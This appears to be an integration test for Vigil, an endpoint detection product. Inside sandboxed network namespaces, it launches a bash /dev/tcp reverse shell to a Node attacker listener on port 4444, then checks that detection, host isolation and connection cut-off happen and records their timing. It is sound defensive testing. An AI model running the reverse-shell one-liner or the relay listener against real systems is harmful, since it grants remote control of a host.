// Mission scenario 3 on real network namespaces: a reverse shell from the endpoint to the peer is detected by Vigil's
// own rule (auditd → agent → server), a global response policy isolates the host, the shell's connection is cut,
// and the host keeps reporting. Records the time from the shell's exec to the cut. Runs alone; cleans up everything.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { randomUUID } from 'node:crypto';
import { spawnSync, type ChildProcess } from 'node:child_process';
import { ApiClient, cleanup, startAgent, startServer, waitFor, type AgentHandle, type ServerHandle } from './harness.js';
import { createLan, leftovers, type Lan } from './netns.js';
import { runTask, tcpProbe } from './network-test-support.js';

const REVERSE_SHELL_RULE = '0c071acc-8823-4eb5-ba7c-4303224176ef'; // content/rules/linux/process_creation_reverse_shell_dev_tcp.yml
const PORT = 4444;
let lan: Lan;
let server: ServerHandle;
let api: ApiClient;
let agent: AgentHandle;

interface Listener {
  child: ChildProcess;
  output: () => string;
  connectedAt: () => number | undefined;
  send(line: string): void;
}

/** The attacker's side on the peer: accepts one connection, relays stdin to it and collects what the shell prints. */
function attackerListener(): Promise<Listener> {
  const script = `const net = require('net'); let sock; net.createServer((s) => { sock = s; console.log('@connected'); s.on('data', (d) => process.stdout.write(d)); s.on('error', () => {}); s.on('close', () => console.log('@closed')); }).listen(${PORT}, () => console.log('@listening')); process.stdin.on('data', (d) => sock && sock.write(d));`;
  const child = lan.spawn('peer', process.execPath, ['-e', script]);
  let output = '';
  let connected: number | undefined;
  child.stdout!.on('data', (d: Buffer) => {
    output += d.toString();
    if (connected === undefined && output.includes('@connected')) connected = Date.now();
  });
  return new Promise((resolve, reject) => {
    child.once('exit', (code) => reject(new Error(`attacker listener exited with ${code}`)));
    const timer = setInterval(() => {
      if (!output.includes('@listening')) return;
      clearInterval(timer);
      resolve({ child, output: () => output, connectedAt: () => connected, send: (line) => child.stdin!.write(`${line}\n`) });
    }, 20);
  });
}

before(async () => {
  lan = createLan(['server', 'endpoint', 'peer']);
  server = await startServer({ VIGIL_API_RATE_BURST: '1000' }, { wrap: lan.hosts.server!.wrap, host: lan.hosts.server!.address });
  api = await new ApiClient(server).login();
  agent = await startAgent(server, api, { wrap: lan.hosts.endpoint!.wrap });
});

after(async () => {
  await cleanup();
  const id = lan?.id;
  lan?.destroy();
  if (lan) assert.deepEqual(leftovers(lan), [], `namespaces and links of test network ${id} removed`);
});

test('reverse shell → alert from Vigil rules → policy isolates the host → the shell is cut; the host keeps reporting', async (t) => {
  const P = lan.hosts.peer!.address;
  const policy = await api.post('/api/v1/response/policies', {
    name: `isolate-on-reverse-shell-${lan.id}`,
    description: 'Mission scenario 3: isolate a host on which a reverse shell is detected',
    match: { rule_ids: [REVERSE_SHELL_RULE], host_ids: [agent.agentId] },
    actions: [{ action: 'host.isolate', args: {} }],
    blast_radius: { max_hosts: 1, window_s: 3600 },
  });
  assert.equal(policy.status, 201, JSON.stringify(policy.body));

  const attacker = await attackerListener();
  const shell = lan.spawn('endpoint', '/bin/bash', ['-c', `bash -i >& /dev/tcp/${P}/${PORT} 0>&1`]);
  let shellExitedAt: number | undefined;
  shell.once('exit', () => (shellExitedAt = Date.now()));

  // The shell works until Vigil acts (the command may run before or after the policy fires; both show it was live).
  await waitFor('the reverse shell to connect', () => attacker.connectedAt(), 10_000, 10);
  attacker.send('echo shell-$((6*7))');

  const alert = await waitFor('an alert from the reverse shell rule', async () => {
    const reply = await api.get(`/api/v1/alerts?host_id=${agent.agentId}&rule_id=${REVERSE_SHELL_RULE}&limit=10`);
    return (reply.body as { id: string; createdAt: string }[])[0];
  }, 15_000, 100);
  await waitFor('the reverse shell connection to be cut', () => shellExitedAt, 15_000, 10);

  const established = lan.exec('endpoint', 'ss', ['-tnH', 'state', 'established', 'dst', P]).trim();
  assert.equal(established, '', 'no connection to the peer is left');
  // Live means bash was attached to the socket: either it answered the command, or (when Vigil cut it first) it had
  // already printed its interactive-shell banner over the connection.
  assert.match(attacker.output(), /shell-42|no job control in this shell/, 'the shell was live before isolation');
  const afterCut = attacker.output().length;
  attacker.send('echo still-there');
  await new Promise((r) => setTimeout(r, 1000));
  assert.doesNotMatch(attacker.output().slice(afterCut), /still-there/, 'the attacker gets no answer any more');
  assert.notEqual(tcpProbe(lan, 'endpoint', P, PORT), 'ok', 'the peer is unreachable');

  // Timing: from the shell's exec (its event's kernel time) to the moment its connection was cut.
  const events = await api.hostEvents(agent.agentId, 'category=process&action=start&limit=10000');
  const exec = events.find((e) => String(e['process.command_line'] ?? '').includes(`/dev/tcp/${P}/${PORT}`));
  assert.ok(exec, 'the reverse shell was recorded as a process start');
  const execAt = Date.parse(String(exec['@timestamp']));
  const tasks = (await api.get(`/api/v1/response/tasks?host_id=${agent.agentId}&action=host.isolate`)).body as { created_at: string; finished_at: string | null; state: string; outcome: { details?: Record<string, unknown> } | null }[];
  const isolation = tasks[0];
  assert.equal(isolation?.state, 'succeeded', JSON.stringify(isolation));
  // Where the time goes: kernel → stored by the server (auditd, agent batch, upload) → alert (detection worker) →
  // policy task → isolated and cut (long-poll, pre-flight, nft, verification, ss -K).
  const timings = {
    exec_to_cut_ms: shellExitedAt! - execAt,
    exec_to_ingested_ms: Date.parse(String(exec['event.ingested'])) - execAt,
    exec_to_alert_ms: Date.parse(alert.createdAt) - execAt,
    exec_to_task_created_ms: Date.parse(isolation.created_at) - execAt,
    task_created_to_finished_ms: Date.parse(isolation.finished_at!) - Date.parse(isolation.created_at),
    isolation_apply_ms: isolation.outcome?.details?.apply_ms,
    connections_cut: isolation.outcome?.details?.connections_cut,
    alert: alert.id,
  };
  t.diagnostic(`scenario timings: ${JSON.stringify(timings)}`);
  console.log(`scenario timings: ${JSON.stringify(timings)}`);
  assert.ok(timings.exec_to_cut_ms >= 0, 'the cut happened after the exec');

  // The host still reports: new events and a second task.
  const probe = `vigil-scenario-after-${randomUUID().slice(0, 8)}`;
  spawnSync('/bin/echo', [probe]);
  await waitFor('an event from the isolated host', async () => {
    const found = await api.hostEvents(agent.agentId, 'category=process&action=start&limit=10000');
    return found.some((e) => (e['process.args'] as string[] | undefined)?.[1] === probe) || undefined;
  }, 15_000, 250);
  assert.equal((await runTask(api, agent.agentId, 'agent.ping', {})).state, 'succeeded');
  assert.equal((await runTask(api, agent.agentId, 'host.release', {})).state, 'succeeded');
  attacker.child.kill();
});
